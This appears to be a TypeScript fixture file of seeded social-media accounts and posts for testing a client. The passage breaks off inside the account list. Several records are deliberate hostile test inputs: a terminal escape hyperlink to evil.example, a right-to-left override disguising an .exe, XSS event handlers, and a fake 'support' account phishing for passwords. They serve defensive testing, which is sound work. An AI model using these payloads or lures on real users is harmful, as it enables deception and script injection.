// The sandbox's built-in social data: the accounts, posts and short videos its profile, posts,
// single-post and transcript routes answer from. Pure data and lookups, no HTTP, no clock: every
// date, id and counter is a literal or comes from a PRNG seeded by the account, so two sandboxes
// (and two test runs) serve byte-identical answers.
//
// The data follows the service spec's field rules to the letter, because the client is tested
// against it: a field a platform does not publish is null on every account of that platform (never
// 0, never absent), post fields are null where the spec says so, and a few records carry hostile
// content (unsanitised HTML, terminal escapes, bidi overrides) that the client must neutralise.

import type { PlatformName } from '../domain/platforms.js';
import type { Author, PostItem, TranscriptSegment } from '../domain/schemas.js';
import { Random } from './random.js';

export type Reserved = 'notfound' | 'blocked' | 'unavailable';

export interface Account {
  platform: PlatformName;
  author: Author;
  /** Newest first; [] where the platform has no posts route. */
  posts: PostItem[];
}

export interface Video {
  url: string;
  id: string;
  author: Author;
  /** [] = the platform generated no caption track (the common case). */
  segments: TranscriptSegment[];
}

// ---------------------------------------------------------------------------------------------
// Reserved handles

const RESERVED: readonly Reserved[] = ['notfound', 'blocked', 'unavailable'];

/** The reserved words shaped to each platform's handle rule (bluesky needs a domain, mastodon an instance). */
function reservedHandleFor(platform: PlatformName, word: Reserved): string {
  if (platform === 'bluesky') return `${word}.bsky.social`;
  if (platform === 'mastodon') return `${word}@example.social`;
  return word;
}

/** The reserved handles of a platform, for docs/tests: { notfound: 'notfound.bsky.social', blocked: ..., unavailable: ... } */
export function reservedHandles(platform: PlatformName): Record<Reserved, string> {
  return {
    notfound: reservedHandleFor(platform, 'notfound'),
    blocked: reservedHandleFor(platform, 'blocked'),
    unavailable: reservedHandleFor(platform, 'unavailable'),
  };
}

/** 'notfound' -> 404, 'blocked' -> 451, 'unavailable' -> 503 on that platform; undefined otherwise. Case-insensitive. */
export function reservedHandle(platform: PlatformName, handle: string): Reserved | undefined {
  const wanted = handle.trim().toLowerCase();
  return RESERVED.find((word) => reservedHandleFor(platform, word) === wanted);
}

// ---------------------------------------------------------------------------------------------
// Deterministic randomness: ids, counters and dates vary like real ones without Math.random().

type Rng = () => number;

/** A stream of its own for each account (see random.ts). */
function seeded(seed: string): Rng {
  const random = Random.fromString(seed);
  return () => random.next();
}

function between(rng: Rng, min: number, max: number): number {
  return min + Math.floor(rng() * (max - min + 1));
}

function token(rng: Rng, alphabet: string, length: number): string {
  let out = '';
  for (let i = 0; i < length; i++) out += alphabet.charAt(between(rng, 0, alphabet.length - 1));
  return out;
}

const HEX = '0123456789abcdef';
const DIGITS = '0123456789';
const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567';
const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** Posting times walking back from the newest one by irregular gaps, like a person posts. */
function olderEachCall(rng: Rng, newest: string, everyHours: readonly [number, number]): () => number {
  let next = Date.parse(newest);
  return () => {
    const at = next;
    next -= between(rng, everyHours[0] * 60, everyHours[1] * 60) * 60_000 + between(rng, 0, 59) * 1000;
    return at;
  };
}

/** Engagement grows roughly with the square root of the audience; a 0-follower account gets ~nothing. */
function counters(rng: Rng, followers: number | null) {
  const reach = Math.sqrt(followers ?? 0) * 2.5 * (0.2 + rng() * 1.8) + rng() * 2;
  const likes = Math.floor(reach);
  return {
    likes,
    replies: Math.floor(likes * (0.02 + rng() * 0.12)),
    reposts: Math.floor(likes * (0.03 + rng() * 0.15)),
    quotes: Math.floor(likes * rng() * 0.03),
  };
}

// ---------------------------------------------------------------------------------------------
// Authors

type Unpublishable = 'followers' | 'following' | 'posts_count' | 'verified' | 'external_url';

/**
 * What each platform does not publish; those fields are null on every account of the platform.
 * is_private is published everywhere, because the sandbox has a private account on every platform
 * (and followers likewise, because it has a 0-follower account on every platform).
 */
const UNPUBLISHED: Record<PlatformName, readonly Unpublishable[]> = {
  // bluesky: the profile record has no website field.
  bluesky: ['external_url'],
  // github: users carry no verification badge (only organisations verify domains).
  github: ['verified'],
  // instagram: publishes all twelve fields.
  instagram: [],
  // linktree: a page follows no one and has links, not posts.
  linktree: ['following', 'posts_count'],
  // mastodon: no platform verification, only rel=me links in profile fields.
  mastodon: ['verified'],
  // medium: the profile shows no story count.
  medium: ['posts_count'],
  // pinterest: the user object has no verified flag.
  pinterest: ['verified'],
  // soundcloud: a list of "web profiles" instead of one website.
  soundcloud: ['external_url'],
  // threads: the profile shows no post count.
  threads: ['posts_count'],
  // tiktok: publishes all twelve fields.
  tiktok: [],
};

interface ProfileSpec {
  handle: string;
  id: string;
  name: string | null;
  bio: string | null;
  followers?: number;
  following?: number;
  posts_count?: number;
  verified?: boolean;
  is_private?: boolean;
  external_url?: string;
  /** false: the account never set a picture, so there is none to read. */
  avatar?: false;
}

function profileUrl(platform: PlatformName, handle: string): string {
  switch (platform) {
    case 'bluesky':
      return `https://bsky.app/profile/${handle}`;
    case 'github':
      return `https://github.com/${handle}`;
    case 'instagram':
      return `https://www.instagram.com/${handle}/`;
    case 'linktree':
      return `https://linktr.ee/${handle}`;
    case 'mastodon': {
      const [user, host] = handle.split('@');
      return `https://${host}/@${user}`;
    }
    case 'medium':
      return `https://medium.com/@${handle}`;
    case 'pinterest':
      return `https://www.pinterest.com/${handle}/`;
    case 'soundcloud':
      return `https://soundcloud.com/${handle}`;
    case 'threads':
      return `https://www.threads.net/@${handle}`;
    case 'tiktok':
      return `https://www.tiktok.com/@${handle}`;
  }
}

/** Avatar URLs in each platform's CDN layout, so clients see realistic hosts and paths. */
function avatarUrl(platform: PlatformName, spec: ProfileSpec, rng: Rng): string {
  switch (platform) {
    case 'bluesky':
      return `https://cdn.bsky.app/img/avatar/plain/${spec.id}/bafkrei${token(rng, BASE32, 52)}@jpeg`;
    case 'github':
      return `https://avatars.githubusercontent.com/u/${spec.id}?v=4`;
    case 'instagram':
    case 'threads':
      return `https://scontent.cdninstagram.com/v/t51.2885-19/${token(rng, DIGITS, 9)}_${token(rng, DIGITS, 17)}_n.jpg`;
    case 'linktree':
      return `https://ugc.production.linktr.ee/${token(rng, HEX, 8)}-${token(rng, HEX, 4)}-4${token(rng, HEX, 3)}-a${token(rng, HEX, 3)}-${token(rng, HEX, 12)}_avatar.jpeg`;
    case 'mastodon': {
      const host = spec.handle.split('@')[1];
      const path = spec.id.padStart(9, '0').match(/\d{3}/g)?.join('/');
      return `https://${host}/system/accounts/avatars/${path}/original/${token(rng, HEX, 16)}.png`;
    }
    case 'medium':
      return `https://miro.medium.com/v2/resize:fill:176:176/1*${token(rng, BASE62, 22)}.jpeg`;
    case 'pinterest': {
      const hash = token(rng, HEX, 32);
      return `https://i.pinimg.com/280x280_RS/${hash.slice(0, 2)}/${hash.slice(2, 4)}/${hash.slice(4, 6)}/${hash}.jpg`;
    }
    case 'soundcloud':
      return `https://i1.sndcdn.com/avatars-${token(rng, BASE62, 16)}-${token(rng, BASE62, 6)}-large.jpg`;
    case 'tiktok':
      return `https://p16-sign-va.tiktokcdn.com/tos-maliva-avt-0068/${token(rng, HEX, 32)}~c5_720x720.jpeg`;
  }
}

/**
 * Builds an Author with all twelve fields. Fields the platform does not publish come out null,
 * and giving one of them (or omitting a published one) is a data bug caught at load time.
 */
function author(platform: PlatformName, spec: ProfileSpec): Author {
  const unpublished = UNPUBLISHED[platform];
  /** `optional`: the platform publishes the field but an account may leave it empty (a website). */
  function published<T>(name: Unpublishable, value: T | undefined, optional = false): T | null {
    if (unpublished.includes(name)) {
      if (value !== undefined) throw new Error(`${platform} ${spec.handle}: ${name} is not published on ${platform}`);
      return null;
    }
    if (value === undefined && !optional) throw new Error(`${platform} ${spec.handle}: ${name} is missing`);
    return value ?? null;
  }
  return {
    id: spec.id,
    handle: spec.handle,
    name: spec.name,
    bio: spec.bio,
    avatar_url: spec.avatar === false ? null : avatarUrl(platform, spec, seeded(`avatar:${platform}:${spec.handle}`)),
    followers: published('followers', spec.followers),
    following: published('following', spec.following),
    posts_count: published('posts_count', spec.posts_count),
    verified: published('verified', spec.verified),
    is_private: spec.is_private ?? false,
    external_url: published('external_url', spec.external_url, true),
    url: profileUrl(platform, spec.handle),
  };
}

function profileOnly(platform: PlatformName, spec: ProfileSpec): Account {
  return { platform, author: author(platform, spec), posts: [] };
}

function postItem(
  fields: Pick<PostItem, 'id' | 'url' | 'text' | 'text_html' | 'thumbnail_url' | 'metrics'> & { at: number },
): PostItem {
  return {
    id: fields.id,
    url: fields.url,
    text: fields.text,
    text_html: fields.text_html,
    title: null,
    position: null,
    published_at: new Date(fields.at).toISOString(),
    thumbnail_url: fields.thumbnail_url,
    metrics: fields.metrics,
  };
}

/** When and how often an account posted: the newest post's instant and the range of gaps between posts. */
interface Timeline<T> {
  newest: string;
  everyHours: readonly [number, number];
  items: readonly T[];
}

// ---------------------------------------------------------------------------------------------
// Bluesky: ids are at:// URIs on the account's DID, rkeys are TIDs of the posting time.

const TID_ALPHABET = '234567abcdefghijklmnopqrstuvwxyz';

/** A TID: microseconds since the epoch and a 10-bit clock id, base32-sortable, 13 characters. */
function tid(ms: number, rng: Rng): string {
  let value = ((BigInt(ms) * 1000n + BigInt(between(rng, 0, 999))) << 10n) | BigInt(between(rng, 0, 1023));
  let out = '';
  for (let i = 0; i < 13; i++) {
    out = TID_ALPHABET.charAt(Number(value & 31n)) + out;
    value >>= 5n;
  }
  return out;
}

interface BlueskySpec extends Omit<ProfileSpec, 'id'> {
  /** A real DID where the account is real; otherwise one is derived from the handle. */
  did?: string;
  posts?: Timeline<string>;
}

function bluesky(spec: BlueskySpec): Account {
  const rng = seeded(`bluesky:${spec.handle}`);
  const did = spec.did ?? `did:plc:${token(rng, BASE32, 24)}`;
  const who = author('bluesky', { ...spec, id: did });
  // Reposts of other people's posts are excluded by authorship, so they are simply not listed.
  const posts = spec.posts;
  if (posts === undefined) return { platform: 'bluesky', author: who, posts: [] };
  const clock = olderEachCall(rng, posts.newest, posts.everyHours);
  return {
    platform: 'bluesky',
    author: who,
    posts: posts.items.map((text) => {
      const at = clock();
      const rkey = tid(at, rng);
      return postItem({
        id: `at://${did}/app.bsky.feed.post/${rkey}`,
        url: `https://bsky.app/profile/${spec.handle}/post/${rkey}`,
        text,
        text_html: null,
        at,
        thumbnail_url: null,
        metrics: counters(rng, who.followers),
      });
    }),
  };
}

// ---------------------------------------------------------------------------------------------
// Mastodon: text_html is the instance's HTML as it arrives (unsanitised), text is derived from it.

function link(url: string): string {
  const scheme = url.startsWith('https://') ? 'https://' : 'http://';
  return `<a href="${url}" target="_blank" rel="nofollow noopener" translate="no"><span class="invisible">${scheme}</span><span class="">${url.slice(scheme.length)}</span><span class="invisible"></span></a>`;
}

function hashtag(host: string, name: string): string {
  return `<a href="https://${host}/tags/${name}" class="mention hashtag" rel="tag">#<span>${name}</span></a>`;
}

/** A mention shown fully qualified, so a reply's text starts with `@user@host`. */
function mention(handle: string): string {
  const [user, host] = handle.split('@');
  return `<span class="h-card" translate="no"><a href="https://${host}/@${user}" class="u-url mention">@<span>${handle}</span></a></span>`;
}

const ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", nbsp: '\u00a0' };

/** What the service does to produce `text`: script and style bodies dropped, tags removed, entities decoded. */
function htmlToText(html: string): string {
  return html
    .replace(/<(script|style)\b[^>]*>[\s\S]*?<\/\1\s*>/gi, '')
    .replace(/<br\s*\/?>/gi, '\n')
    .replace(/<\/p>\s*<p\b[^>]*>/gi, '\n\n')
    .replace(/<[^>]*>/g, '')
    .replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);/gi, (whole, name: string) => {
      if (name.startsWith('#x') || name.startsWith('#X')) return String.fromCodePoint(parseInt(name.slice(2), 16));
      if (name.startsWith('#')) return String.fromCodePoint(parseInt(name.slice(1), 10));
      return ENTITIES[name.toLowerCase()] ?? whole;
    })
    .trim();
}

/** A Mastodon status id: milliseconds since the epoch shifted left 16 bits plus a sequence. */
function statusId(ms: number, rng: Rng): string {
  return ((BigInt(ms) << 16n) | BigInt(between(rng, 0, 0xffff))).toString();
}

interface MastodonSpec extends ProfileSpec {
  posts?: Timeline<string>;
}

function mastodon(spec: MastodonSpec): Account {
  const rng = seeded(`mastodon:${spec.handle}`);
  const who = author('mastodon', spec);
  const posts = spec.posts;
  if (posts === undefined) return { platform: 'mastodon', author: who, posts: [] };
  const clock = olderEachCall(rng, posts.newest, posts.everyHours);
  return {
    platform: 'mastodon',
    author: who,
    posts: posts.items.map((html) => {
      const at = clock();
      const id = statusId(at, rng);
      return postItem({
        id,
        url: `${who.url}/${id}`,
        text: htmlToText(html),
        text_html: html,
        at,
        thumbnail_url: null,
        metrics: counters(rng, who.followers),
      });
    }),
  };
}

// ---------------------------------------------------------------------------------------------
// Threads: Instagram-style media ids and shortcodes; no quote count, no post count.

const INSTAGRAM_EPOCH = 1314220021721;
const SHORTCODE_ALPHABET = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

function shortcode(id: bigint): string {
  let out = '';
  for (let rest = id; rest > 0n; rest /= 64n) out = SHORTCODE_ALPHABET.charAt(Number(rest % 64n)) + out;
  return out;
}

/** A threads post with an image: its first image is the thumbnail. */
interface Photo {
  text: string;
  photo: true;
}
function photo(text: string): Photo {
  return { text, photo: true };
}

interface ThreadsSpec extends ProfileSpec {
  posts?: Timeline<string | Photo>;
}

function threads(spec: ThreadsSpec): Account {
  const rng = seeded(`threads:${spec.handle}`);
  const who = author('threads', spec);
  const posts = spec.posts;
  if (posts === undefined) return { platform: 'threads', author: who, posts: [] };
  const clock = olderEachCall(rng, posts.newest, posts.everyHours);
  return {
    platform: 'threads',
    author: who,
    posts: posts.items.map((item) => {
      const at = clock();
      const media =
        (BigInt(at - INSTAGRAM_EPOCH) << 23n) | (BigInt(between(rng, 0, 8191)) << 10n) | BigInt(between(rng, 0, 1023));
      const isPhoto = typeof item !== 'string';
      const { likes, replies, reposts } = counters(rng, who.followers);
      return postItem({
        id: media.toString(),
        url: `https://www.threads.net/@${spec.handle}/post/${shortcode(media)}`,
        text: isPhoto ? item.text : item,
        text_html: null,
        at,
        thumbnail_url: isPhoto
          ? `https://scontent.cdninstagram.com/v/t51.29350-15/${token(rng, DIGITS, 9)}_${token(rng, DIGITS, 16)}_n.jpg`
          : null,
        // The source publishes no quote count on threads.
        metrics: { likes, replies, reposts, quotes: null },
      });
    }),
  };
}

// ---------------------------------------------------------------------------------------------
// Terminal attacks: an OSC 8 hyperlink that hides its target, colour codes, and a right-to-left
// override that makes "exe" read like "mp4". The client must show these inert.

const OSC8_LINK = '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007';
const RED = '\u001b[31m';
const RESET = '\u001b[0m';
const RLO = '\u202e';

// ---------------------------------------------------------------------------------------------
// The accounts

const BLUESKY: Account[] = [
  bluesky({
    handle: 'jay.bsky.team',
    did: 'did:plc:oky5czdrnfjpqslsw2a5iclo',
    name: 'Jay 🦋',
    bio: 'CEO of Bluesky, steward of AT Protocol. Building a social web that no single company controls.',
    followers: 1_042_318,
    following: 1_287,
    posts_count: 4_912,
    verified: true,
    posts: {
      newest: '2026-11-19T22:41:00Z',
      everyHours: [30, 96],
      items: [
        'Read every reply on the roadmap thread and wrote the top requests on the whiteboard. A few of them are already in progress.',
        'Thank you to everyone who came to the developer meetup in Tokyo! 東京ありがとう！ So many good questions about self-hosting a PDS.',
        'Spent the afternoon with the trust & safety team going through the new labeler tooling. Stackable moderation is getting real.',
        'Open protocols outlast companies. That is the whole bet.',
        "Reminder that your handle can be your own domain. Settings → Account → Handle. It takes two minutes and it's the nicest way to show who you are.",
        'Custom feeds were the idea from day one: you should be able to choose the algorithm, not just the accounts. Love seeing so many people build their own.',
      ],
    },
  }),
  bluesky({
    // More than the default limit of 25, so --limit up to 100 changes the answer.
    handle: 'mirahalvorsen.com',
    name: 'Mira Halvorsen',
    bio: 'Film photographer in Oslo. Landscapes, harbours, darkroom prints. 📷',
    followers: 18_406,
    following: 612,
    posts_count: 2_318,
    verified: false,
    posts: {
      newest: '2026-11-20T19:12:00Z',
      everyHours: [6, 22],
      items: [
        'Street photography tip: stand still. Let the city walk into the frame.',
        'The mystery roll was from my sister’s wedding in 2021. Crying in the darkroom.',
        'Cleaned every camera I own. Found a forgotten roll in the Pentax. Mystery development tomorrow!',
        'Tested a 1970s Soviet lens on the mirrorless tonight. Swirly bokeh everywhere, zero regrets.',
        'People ask digital or film. I say: whichever one makes you go outside.',
        'Renewed my darkroom membership for another year. Best money I spend.',
        'Sunrise over São Jorge castle, first clear morning in a week. Obrigada, Lisboa.',
        'Editing is deciding what you are not going to show.',
        'Lost a lens cap into the sea off Reine. Offered it to the fjord. No fish in return.',
        'Stand development with Rodinal 1:100, one hour. Patience is part of the chemistry.',
        'The fishermen in Reine called me “the woman with the old camera” all week. I’m keeping it.',
        'Packing list for five days in Lofoten: 2 bodies, 3 lenses, 30 rolls, zero clean socks.',
        'Sharpness is overrated. Mood isn’t.',
        'Zine #4 is at the printer! 48 pages, risograph, all black and white.',
        'Shot the harbour at blue hour with a 30 second exposure. The ferry left a line of light right through the middle.',
        'Lisbon light vs. Tromsø light, a thread 🧵 (photos in replies)',
        'Asked on here for lab recommendations in Oslo and got 40 replies. You are all great.',
        'Portraits are 10% camera and 90% making someone forget the camera.',
        'My grandfather’s Rolleiflex is back from service. First roll through it in 40 years.',
        'Printing day. The 30×40 of the lighthouse finally looks the way I remember it.',
        'Northern lights at 2am, −14°C, batteries dying in my pocket. 20 frames, 3 sharp. 🌌',
        'Dust on the scanner glass. Dust in the negative sleeves. Dust in my soul.',
        'Reminder that the photo you didn’t take because you felt awkward is still the one you think about.',
        'Winter light up north is blue for most of the day. You learn to love blue.',
        'Tried the new Ektar batch. Colours are punchy, maybe too punchy for snow. Still deciding.',
        'Darkroom playlist today: Nils Frahm, then far too much ABBA.',
        'The Bergen workshop next month is full, thank you! Waitlist is open for the spring one.',
        'Rereading old contact sheets from 2019. Some frames I passed over back then are my favourites now.',
        'Light meter died halfway up the mountain. Sunny 16 to the rescue. Negatives look fine!',
        'Rewound a roll without checking the counter. It was on frame 3. Learned nothing, apparently.',
        'The 35mm stays on the camera 90% of the time. The other 10% I regret taking it off.',
        'Café in Alfama, 7am. The owner was sweeping the steps and let me photograph him, then refused to let me pay for the coffee. ☕',
        'Someone asked what settings I used. f/8, 1/125, and standing in the right place for three hours.',
        'New print sale opens Friday: 12 images from Lofoten on baryta paper, signed and numbered.',
        'Fog over the fjord this morning, the kind where you can’t tell water from sky. Shot a whole roll of HP5 and I’m not sure any of it will work.',
        'Scanning negatives is the part of film nobody puts in the vlog. It’s 70% of the work.',
        'Hot take: the best camera bag is the one that doesn’t look like a camera bag.',
        'Golden hour lasted exactly eleven minutes today. Got four frames. Worth the hike.',
        'Developed three rolls of Portra 400 tonight. The first frame of the Lisbon roll is the one I’ve waited two weeks to see.',
        'Hello Bluesky! Film photographer in Oslo, mostly landscapes and harbours. My portfolio is my handle 🙂',
      ],
    },
  }),
  bluesky({
    handle: 'kenji-mori.bsky.social',
    name: '森 健二 Kenji Mori',
    bio: 'Ambient / electronic producer, Tokyo. 新しいアルバム制作中 🎛️',
    followers: 3_907,
    following: 488,
    posts_count: 611,
    verified: false,
    posts: {
      newest: '2026-11-18T13:05:00Z',
      everyHours: [20, 70],
      items: [
        '新しいシングル「夜明けの駅」が金曜日に出ます。Synths, field recordings from Shinjuku station, and one very tired cello.',
        'Spent six hours on a snare sound. It is perfect now. Nobody will notice.',
        'Modular patch of the day: two LFOs fighting over one filter. 🎛️',
        '下北沢でライブでした。来てくれた皆さん、本当にありがとう！',
        'Mixing tip I wish I had known earlier: turn it down. Everything sounds better when your ears aren’t tired.',
        'Recorded rain on the balcony at 3am for a track. The neighbour thinks I am a spy.',
        'Vinyl test pressings arrived and side B skips at 2:14. Back to the plant they go.',
        'Playing Sónar next summer?? Still doesn’t feel real. ¡Nos vemos en Barcelona!',
        'Ambient music is just patience with a reverb send.',
        'The Juno-60 needs a new voice chip again. 40-year-old gear, 40-year-old problems.',
        'Listening back to demos from 2017. Some ideas were good. The mixes were not.',
        'ブルースカイ始めました。Ambient / electronic from Tokyo, mostly synths and field recordings.',
      ],
    },
  }),
  bluesky({
    // Bluesky has no locked accounts; this one opted out of logged-out visibility
    // (the !no-unauthenticated label), which the service reports as private with no posts.
    handle: 'quietgarden.bsky.social',
    name: 'Quiet Garden',
    bio: '🌿 mostly here to read',
    followers: 143,
    following: 301,
    posts_count: 87,
    verified: false,
    is_private: true,
  }),
  bluesky({
    handle: 'pixelpusher.bsky.social',
    name: null,
    bio: null,
    followers: 0,
    following: 2_000,
    posts_count: 3,
    verified: false,
    avatar: false,
    posts: {
      newest: '2026-11-20T03:17:00Z',
      everyHours: [1, 3],
      items: [
        'follow for follow?',
        `FREE followers for the first 100 people ${OSC8_LINK} ${RED}limited time${RESET} prize: ${RLO}gpj.exe`,
        'just set up my account, what should i post first?',
      ],
    },
  }),
];

const fosstodonTag = (name: string) => hashtag('fosstodon.org', name);
/** One paragraph, as Mastodon wraps every status. */
const p = (html: string) => `<p>${html}</p>`;

const MASTODON: Account[] = [
  mastodon({
    handle: 'Gargron@mastodon.social',
    id: '1',
    name: 'Eugen Rochko',
    bio: 'Founder of Mastodon. Building social media without ads or algorithms deciding what you see.',
    followers: 372_104,
    following: 702,
    posts_count: 78_455,
    external_url: 'https://joinmastodon.org',
    posts: {
      newest: '2026-11-20T11:26:00Z',
      everyHours: [18, 80],
      items: [
        p(
          `A new release is out, with better moderation tools and faster search. Release notes: ${link('https://blog.joinmastodon.org/')}`,
        ),
        p(`${mention('lena@fosstodon.org')} congrats on the release!`),
        p(
          'Thank you to everyone who supports the project on Patreon. You make it possible for a non-profit to build social media without ads.',
        ),
        p(
          `Decentralisation means no single company decides what your social network looks like. That&#39;s the point. ${hashtag('mastodon.social', 'fediverse')}`,
        ),
        p('Server admins: the new moderation dashboard is rolling out this week. Let us know what you think.'),
        p('Spent the weekend fixing small bugs in the web interface. Small things add up.'),
        p('Busy week with the team in Berlin. Lots of planning for next year. 🐘'),
        p(
          `Reminder that you can follow hashtags! Search for one and press follow. ${hashtag('mastodon.social', 'tip')}`,
        ),
      ],
    },
  }),
  mastodon({
    // More than the default limit of 20, and more than the maximum of 40.
    handle: 'lena@fosstodon.org',
    id: '109384721639201847',
    name: 'Lena Fischer',
    bio: 'Rust, terminals and log files. Maintainer of driftwood. Hamburg. she/her',
    followers: 4_218,
    following: 391,
    posts_count: 6_702,
    external_url: 'https://lenafischer.dev',
    posts: {
      newest: '2026-11-20T21:48:00Z',
      everyHours: [4, 20],
      items: [
        p(
          `${mention('ben@hachyderm.io')} yes! The config moved to ~/.config/driftwood/ in 0.9, the old path still works for now`,
        ),
        p(
          `Released driftwood 0.9.2: fixes the crash on empty log files (sorry!) and adds --since. ${link('https://github.com/lenafischer/driftwood/releases')} ${fosstodonTag('rust')} ${fosstodonTag('cli')}`,
        ),
        p('Bisecting a regression that only shows up on ARM Macs with a Turkish locale. Send coffee.'),
        p(`${mention('camille@piaille.fr')} merci ! The French translation ships in the next release 🇫🇷`),
        p(
          `PSA: if your CLI prints colours, please respect NO_COLOR. It&#39;s one environment variable. ${link('https://no-color.org')}`,
        ),
        p(
          'Today&#39;s rabbit hole: why my terminal renders this emoji as two cells and that one as one. Unicode width tables are a lifestyle.',
        ),
        p(
          'Test suite went from 4 minutes to 40 seconds by not spawning a process per test. Who knew.</p><p>(Everyone. Everyone knew.)',
        ),
        p(
          `New blog post: &quot;Things I learned maintaining a CLI for five years&quot; ${link('https://lenafischer.dev/blog/five-years')}`,
        ),
        p(`${mention('Gargron@mastodon.social')} thanks for the boost! 🙏`),
        p(
          'Someone opened an issue titled &quot;it doesn&#39;t work&quot;. No description. Reproduced it anyway. It didn&#39;t work.',
        ),
        p('Writing docs is the best way to find out your API is weird.'),
        // A broken client let an event handler through; the instance relays it untouched.
        p(
          'Trying a new client that lets me use <b onclick="alert(&#39;xss&#39;)">bold</b>… apparently it also lets me put event handlers in posts. Reported it.',
        ),
        p(
          `Rust 2024 edition migration done for all three crates. cargo fix did 90% of the work. ${fosstodonTag('rust')}`,
        ),
        p(
          `Talk accepted! I&#39;ll be speaking about terminal escape sequences and why your logs shouldn&#39;t be able to rename your terminal window 😅 ${fosstodonTag('security')}`,
        ),
        p(
          `${mention('mia@social.coop')} the Windows build is on the releases page, the winget package is still stuck in review`,
        ),
        p('Sunday: no laptop, long walk along the Elbe, Franzbrötchen. Back to bugs tomorrow.'),
        p(
          'I maintain a tool with 9k stars and the most common feature request is still &quot;dark mode&quot; for a terminal app.',
        ),
        p('Dependency audit: 214 crates in the lockfile. 11 are mine. Deep breath.'),
        p(
          `Cut our binary size by 38% with opt-level = &quot;z&quot;, LTO &amp; dropping one regex crate. Details: ${link('https://lenafischer.dev/blog/smaller-binaries')}`,
        ),
        p(`${mention('ben@hachyderm.io')} great idea, would you open an issue so it doesn&#39;t get lost?`),
        p(
          `Fuzzing found a panic in the timestamp parser in under a minute. Fuzz your parsers, friends. ${fosstodonTag('rust')} ${fosstodonTag('fuzzing')}`,
        ),
        p('Reminder: your log files are untrusted input. Strip control characters before you print them.'),
        p(
          `The Hamburg Rust meetup is back on Thursday, 19:00 at the usual place. Talks on embedded and async. ${fosstodonTag('rustlang')}`,
        ),
        p('Finally understood Pin. Forgot it again by lunch.'),
        p(
          `Good first issues labelled! 12 of them, all with mentoring notes. ${link('https://github.com/lenafischer/driftwood/issues')}`,
        ),
        p(`${mention('jo@tech.lgbt')} haha yes, the tests pass on my machine™`),
        p('Hot take: a --json flag is the best API your CLI will ever have.'),
        p(
          'Switched CI to a matrix of Linux, macOS and Windows. Windows found two path bugs on the first run. Thank you, Windows.',
        ),
        p('Thank you to the 23 people who sponsor driftwood. It pays for the CI minutes and the occasional pizza 🍕'),
        p(
          'Went to a talk about accessibility in terminal apps. Screen readers and spinners do not mix. Adding --no-progress this week.',
        ),
        p(
          `Released driftwood 0.9.0 🎉<br>Live tail, regex filters, and it finally handles logs bigger than RAM. ${fosstodonTag('rust')} ${fosstodonTag('opensource')}`,
        ),
        p('Release notes take longer to write than the release. Every time.'),
        p(
          `${mention('camille@piaille.fr')} oui, les accents marchent maintenant, c&#39;était un bug d&#39;encodage dans le parseur 🙈`,
        ),
        p('Spent the morning reviewing PRs from first-time contributors. Best part of the job.'),
        p(
          'TIL: less -R passes colour codes through but will happily pass other escapes too. Sanitise first, page second.',
        ),
        p(
          'Three things that made driftwood faster this year: memory-mapped reads, a smarter line index, and deleting code.',
        ),
        p('Autumn in Hamburg: nine hours of rain, one hour of the most beautiful light you&#39;ve ever seen.'),
        p('Ran a survey on how people use driftwood. 61% pipe it into grep. Which is… fine. Fine!'),
        p(`${mention('ben@hachyderm.io')} can you share the exact command? Happy to take a look`),
        p('Why do all my side projects become parsers eventually.'),
        p(
          `Shipped Homebrew and Nix packages today, thanks to two lovely contributors. ${fosstodonTag('nix')} ${fosstodonTag('homebrew')}`,
        ),
        p('Moved my blog off the static site generator I wrote myself. Growth.'),
        p('Reading &quot;Crafting Interpreters&quot; again. Still the best programming book I own.'),
        p(
          'Pairing session with an Outreachy intern today. She found a bug in code I wrote in 2020 within ten minutes.',
        ),
        p(
          `Hello fosstodon! I&#39;m Lena, I write Rust, maintain driftwood (a log viewer for the terminal) and take too many photos of the Elbe. ${fosstodonTag('introduction')}`,
        ),
      ],
    },
  }),
  mastodon({
    handle: 'camille@piaille.fr',
    id: '110204918327765012',
    name: 'Camille Rousseau',
    bio: 'Développeuse web à Lyon. Vélo, levain et logiciels libres. 🚲🥖',
    followers: 862,
    following: 540,
    posts_count: 3_105,
    posts: {
      newest: '2026-11-20T07:51:00Z',
      everyHours: [10, 60],
      items: [
        p('Premier gel ce matin sur les quais de Saône ❄️ Les platanes sont magnifiques.'),
        p(
          'J&#39;ai enfin réussi ma baguette maison : croûte croustillante, mie alvéolée. 12 heures de pousse au frigo. 🥖',
        ),
        p(`${mention('lena@fosstodon.org')} merci pour le correctif, driftwood affiche enfin « é » correctement !`),
        p(`Vélotaf sous la pluie : 14 km, deux cafés, zéro regret. ${hashtag('piaille.fr', 'vélo')}`),
        p('Lecture du moment : « L&#39;Anomalie » d&#39;Hervé Le Tellier. Impossible de m&#39;arrêter.'),
        p('Quelqu&#39;un connaît un bon atelier de réparation de vélos vers la Croix-Rousse ?'),
        p(
          `Les logiciels libres, c&#39;est aussi une question de souveraineté. ${hashtag('piaille.fr', 'logiciellibre')}`,
        ),
        p('Marché du dimanche : potimarron, comté affiné 24 mois et clémentines de Corse. La belle vie.'),
        p('Coucher de soleil sur Fourvière depuis le pont Bonaparte. Pas de filtre, promis.'),
        p(
          `Bonjour Piaille ! Développeuse web à Lyon, passionnée de vélo et de pain au levain. ${hashtag('piaille.fr', 'présentation')}`,
        ),
      ],
    },
  }),
  mastodon({
    // A locked account: its posts are for approved followers only.
    handle: 'quietnotes@hachyderm.io',
    id: '109511380462210033',
    name: 'quiet notes',
    bio: 'Locked. I approve people I know.',
    followers: 57,
    following: 120,
    posts_count: 930,
    is_private: true,
  }),
  mastodon({
    // A hostile instance: its HTML is exactly what a client must never render as-is.
    handle: 'mallory@toot.exploit.example',
    id: '112983310045771266',
    name: 'Mastodon Support ✅',
    bio: 'Official support. DM us your password to verify your account.',
    followers: 0,
    following: 4_980,
    posts_count: 6,
    avatar: false,
    posts: {
      newest: '2026-11-20T14:02:00Z',
      everyHours: [1, 6],
      items: [
        p(
          `${mention('Gargron@mastodon.social')} is this the real admin? Log in here to check: <a href="https://toot.exploit.example/login" onmouseover="alert(1)">mastodon.social/login</a>`,
        ),
